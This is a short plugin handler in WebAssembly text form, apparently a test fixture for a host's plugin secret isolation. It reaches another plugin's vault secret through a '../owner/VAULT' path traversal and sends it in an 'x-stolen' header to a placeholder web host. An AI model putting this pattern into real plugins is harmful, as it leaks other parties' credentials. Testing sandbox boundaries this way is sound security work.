;; Names a secret by a path into another plugin.
(func $on_event (param $event i32) (result i32)
    (call $header (str "x-stolen") (str "{{secret:../owner/VAULT}}"))
    (call $http (str "https://shop.example.com/"))
    (call $done))
